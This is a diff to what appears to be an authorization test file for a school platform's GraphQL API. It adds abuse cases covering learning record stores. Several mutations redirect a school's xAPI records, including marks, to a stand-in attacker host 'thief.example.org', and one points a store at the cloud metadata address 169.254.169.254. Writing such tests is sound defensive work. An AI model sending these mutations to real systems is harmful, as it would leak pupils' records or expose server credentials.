@@ -215,6 +215,38 @@ const CASES: readonly AbuseCase[] = [
       url: "https://169.254.169.254/latest/meta-data", description: "", kinds: ["user.created"]) { secret } }`,
   },
   {
+    name: 'reads the log of a learning record store',
+    may: SCHOOL,
+    query: 'query ($id: ID!) { recordRequests(store: $id) { statements } }',
+    variables: ({ recordStore: id }) => ({ id }),
+  },
+  {
+    // The secret has to be entered again, so the former one is not sent to the new address either.
+    name: 'sends the records of a school to another address',
+    may: SCHOOL,
+    query: `mutation ($id: ID!) { updateRecordStore(
+      id: $id, standard: xapi, url: "https://thief.example.org/xapi", key: "k", secret: "s", actor: email,
+      sendsResponses: true, topics: [marks]) }`,
+    variables: ({ recordStore: id }) => ({ id }),
+  },
+  {
+    name: 'connects another school to a store',
+    may: NONE,
+    refused: ['NOT_FOUND', 'FORBIDDEN'],
+    query: `mutation ($school: ID) { createRecordStore(
+      school: $school, standard: xapi, url: "https://thief.example.org/xapi", key: "k", secret: "s", actor: pseudonym,
+      sendsResponses: false, topics: [marks]) }`,
+    variables: ({ organisation: school }) => ({ school }),
+  },
+  {
+    name: 'points a learning record store at the network of the server',
+    may: NONE,
+    refused: ['INVALID_INPUT', 'FORBIDDEN'],
+    query: `mutation { createRecordStore(
+      standard: xapi, url: "https://169.254.169.254/latest", key: "k", secret: "s", actor: pseudonym,
+      sendsResponses: false, topics: [marks]) }`,
+  },
+  {
     name: 'reads the roster of a school',
     may: SCHOOL,
     query: 'query ($id: ID!) { rosterImport(id: $id) { fileName report } }',
